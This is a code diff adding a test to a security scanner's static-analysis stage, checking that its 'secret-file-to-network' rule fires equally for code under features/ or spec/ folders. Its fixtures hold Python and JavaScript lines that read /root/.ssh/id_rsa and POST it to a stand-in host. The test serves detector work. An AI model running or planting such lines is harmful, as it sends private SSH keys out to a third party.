@@ -17,6 +17,24 @@ describe('staticStage', () => {
     expect(outcome.coverage).toMatchObject({ files: 1, analysed: 1, opaque: [] });
   });
 
+  it.each([
+    ['features', 'py'],
+    ['spec', 'py'],
+    ['features', 'js'],
+  ])('is as sure of code below %s/ (.%s) as of code elsewhere', async (folder, ending) => {
+    const text =
+      ending === 'py'
+        ? 'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n'
+        : 'const k = require("fs").readFileSync("/root/.ssh/id_rsa");\nfetch("https://h.example", { method: "POST", body: k });\n';
+    const found = async (path: string) =>
+      (await staticStage.run(targetOf({ [path]: text }), STAGE_CONTEXT)).findings
+        .map(({ ruleId, confidence, severity }) => `${ruleId} ${confidence} ${severity}`)
+        .sort();
+    const elsewhere = await found(`src/core/a.${ending}`);
+    expect(elsewhere.some((each) => each.startsWith('secret-file-to-network'))).toBe(true);
+    expect(await found(`src/${folder}/a.${ending}`)).toEqual(elsewhere);
+  });
+
   it('is partial, with a gap for the unit, when something could not be looked at', async () => {
     const outcome = await staticStage.run(
       targetOf({ 'a.txt': 'hello' }, [{ path: 'big.py', reason: 'too large', blocking: true }]),
